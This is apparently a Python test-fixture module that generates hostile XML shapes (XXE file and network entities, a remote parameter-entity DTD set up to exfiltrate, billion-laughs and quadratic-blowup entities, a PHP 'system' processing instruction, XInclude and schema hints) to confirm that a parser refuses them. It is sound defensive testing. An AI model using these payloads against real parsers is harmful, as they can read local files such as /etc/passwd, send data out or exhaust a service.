"""Hostile XML, each shape a change to a well-formed carrier document the adapter accepts.

A carrier is a document with an XML declaration and one element text, its `marker`, that a
shape may replace. The same shapes are sent in every carrier because each carrier is parsed
on a path of its own: the WUS envelope, the SOAP part of an ebMS message, and the batch in
its payload part. References to the network point at `TRIPWIRE`, which the tests replace by
a listener of their own, so a fetch would be seen rather than merely fail. (libxml2 2.14, in
the venv today, has no HTTP client at all, so it could not fetch even if asked; the listener
guards against every other way a fetch could come back: a resolver of ours, another build.)
The `file:` references are the sharp ones: that same libxml2 reads a local file into an
entity as soon as a parser is told to resolve entities.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass

TRIPWIRE = b"http://tripwire.invalid"
XINCLUDE = b"http://www.w3.org/2001/XInclude"
XSI = b"http://www.w3.org/2001/XMLSchema-instance"
_ROOT_TAG = re.compile(rb"<[A-Za-z_][\w.:-]*")


@dataclass(frozen=True)
class Carrier:
    document: bytes  # starts with its XML declaration
    marker: bytes  # occurs once, as the text of one element

    def __post_init__(self) -> None:
        if self.document.count(self.marker) != 1 or not self.document.startswith(b"<?xml"):
            raise ValueError("a carrier has a declaration and its marker exactly once")

    @property
    def rest(self) -> bytes:
        """Everything after the XML declaration."""
        return self.document.split(b"?>", 1)[1]

    def declared(self, declaration: bytes) -> bytes:
        return declaration + self.rest

    def prolog(self, markup: bytes, marker: bytes | None = None) -> bytes:
        """`markup` between the declaration and the root; the marker replaced if given."""
        document = self.document.split(b"?>", 1)[0] + b"?>" + markup + self.rest
        return document if marker is None else document.replace(self.marker, marker)

    def in_marker(self, replacement: bytes) -> bytes:
        return self.document.replace(self.marker, replacement)

    def on_root(self, attributes: bytes) -> bytes:
        """`attributes` (and namespace declarations) added to the root element's start tag."""
        rest = self.rest
        tag = _ROOT_TAG.search(rest)
        if tag is None:
            raise ValueError("no root element")
        head = self.document[: len(self.document) - len(rest)]
        return head + rest[: tag.end()] + b" " + attributes + rest[tag.end() :]


Shape = Callable[[Carrier], bytes]


def _doctype(subset: bytes, marker: bytes | None = None) -> Shape:
    return lambda c: c.prolog(b"<!DOCTYPE x [" + subset + b"]>", marker)


def _prolog(markup: bytes) -> Shape:
    return lambda c: c.prolog(markup)


def _in_marker(replacement: bytes) -> Shape:
    return lambda c: c.in_marker(replacement)


def _on_root(attributes: bytes) -> Shape:
    return lambda c: c.on_root(attributes)


def _utf16(carrier: Carrier) -> bytes:
    return (b"<?xml version='1.0' encoding='UTF-16'?>" + carrier.rest).decode().encode("utf-16")


def _truncated(carrier: Carrier) -> bytes:
    return carrier.document[: len(carrier.document) * 2 // 3]


_LAUGHS = b'<!ENTITY lol0 "lol">' + b"".join(
    b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10)
)

# Every shape here is refused by the parser, before anything reads the document's content.
SHAPES: dict[str, Shape] = {
    "xxe-file-entity": _doctype(b'<!ENTITY xxe SYSTEM "file:///etc/passwd">', b"&xxe;"),
    "xxe-network-entity": _doctype(b'<!ENTITY xxe SYSTEM "' + TRIPWIRE + b'/entity">', b"&xxe;"),
    "xxe-parameter-entity": _doctype(
        b'<!ENTITY % remote SYSTEM "' + TRIPWIRE + b'/remote.dtd">%remote;', b"&exfiltrate;"
    ),
    "xxe-external-dtd": _prolog(b'<!DOCTYPE x SYSTEM "' + TRIPWIRE + b'/external.dtd">'),
    "xxe-public-dtd": _prolog(
        b'<!DOCTYPE x PUBLIC "-//Hostile//DTD x//EN" "' + TRIPWIRE + b'/public.dtd">'
    ),
    "entity-billion-laughs": _doctype(_LAUGHS, b"&lol9;"),
    "entity-quadratic-blowup": _doctype(b'<!ENTITY a "' + b"a" * 50_000 + b'">', b"&a;" * 2_000),
    "dtd-attribute-defaults": _doctype(b"<!ATTLIST x injected CDATA 'yes'>"),
    "dtd-after-a-comment": _prolog(b"<!-- harmless --><!DOCTYPE x>"),
    "undeclared-entity": _in_marker(b"&xxe;"),
    "xml-1.1-declaration": lambda c: c.declared(b"<?xml version='1.1' encoding='utf-8'?>"),
    "pi-in-prolog": _prolog(b'<?xml-stylesheet type="text/xsl" href="' + TRIPWIRE + b'/x.xsl"?>'),
    "pi-in-content": _in_marker(b"<?php system('id'); ?>"),
    "declared-latin-1": lambda c: c.declared(b"<?xml version='1.0' encoding='ISO-8859-1'?>"),
    "utf-16-document": _utf16,
    "invalid-utf-8": lambda c: c.in_marker(c.marker + b"\xc3\x28"),
    "nul-character-reference": _in_marker(b"&#0;"),
    "not-well-formed": _truncated,
    "depth-100000": _in_marker(b"<d>" * 100_000 + b"</d>" * 100_000),
    "attributes-100000": _on_root(b" ".join(b'a%d="1"' % n for n in range(100_000))),
    "namespace-declarations-10000": _on_root(
        b" ".join(b'xmlns:n%d="urn:n%d"' % (n, n) for n in range(10_000))
    ),
    "elements-100001": _in_marker(b"<e/>" * 100_001),
    "comments-100001": _in_marker(b"<!---->" * 100_001),
}

# Shapes whose refusal says "not UTF-8" rather than "not acceptable XML".
NOT_UTF8 = frozenset({"declared-latin-1", "utf-16-document", "invalid-utf-8"})


def xinclude(href: bytes, parse: bytes = b"xml") -> bytes:
    """An XInclude element; the safe parser keeps it as an element and never follows it."""
    return b'<xi:include xmlns:xi="%s" href="%s" parse="%s"/>' % (XINCLUDE, href, parse)


def schema_location(carrier: Carrier, namespace: bytes | None) -> bytes:
    """The root with an xsi schema hint at the tripwire; validation uses our own schemas."""
    hint = (
        b'xsi:schemaLocation="' + namespace + b" " + TRIPWIRE + b'/hint.xsd"'
        if namespace is not None
        else b'xsi:noNamespaceSchemaLocation="' + TRIPWIRE + b'/hint.xsd"'
    )
    return carrier.on_root(b'xmlns:xsi="' + XSI + b'" ' + hint)
